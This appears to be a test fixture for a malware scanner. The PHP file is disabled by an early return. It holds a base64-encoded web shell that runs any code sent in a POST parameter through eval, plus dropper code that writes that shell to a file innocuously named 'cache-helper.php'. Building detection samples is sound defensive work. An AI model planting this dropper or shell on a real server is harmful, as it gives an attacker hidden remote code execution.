<?php
// synthetic test sample for breachscan: base64 text encoding a PHP eval shell, written
// to disk by a dropper. Disabled.
return;
$data = 'PD9waHAKQGVycm9yX3JlcG9ydGluZygwKTsKaWYgKGlzc2V0KCRfUE9TVFsneCddKSkgeyBldmFsKCRfUE9TVFsneCddKTsgfQo=';
$target = dirname(__FILE__) . '/cache-helper.php';
file_put_contents($target, base64_decode($data));
